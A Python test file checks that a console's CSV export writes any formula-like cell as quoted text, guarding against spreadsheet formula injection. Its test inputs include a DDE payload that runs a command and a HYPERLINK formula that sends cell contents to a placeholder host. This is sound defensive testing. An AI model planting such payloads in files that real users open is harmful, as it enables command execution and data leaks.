"""Every CSV the console writes opens in a spreadsheet as text: no cell starts a formula."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

import console
from console.core.csv_cells import csv_cell, csv_row


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        '=HYPERLINK("http://x/?"&A1)',
        " =1+2",  # some imports trim leading spaces
        "\t=1+2",
        "\r=1",
        "\n=1",
        "＝1+2",  # full-width equals sign
    ],
)
def test_a_formula_is_written_as_text(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-10.50", "+5", "10.00", "batch-0001", "", "a=b", "x@y.z"])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert csv_cell(value) == value


def test_a_row_of_any_values() -> None:
    assert csv_row([None, 3, "=1"]) == ["", "3", "'=1"]


def test_every_csv_the_console_writes_goes_through_the_one_rule() -> None:
    root = Path(console.__file__).parent
    writers = [
        p
        for p in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert writers  # the search finds the writers there are
    for path in writers:
        assert "csv_row(" in path.read_text(encoding="utf-8"), path
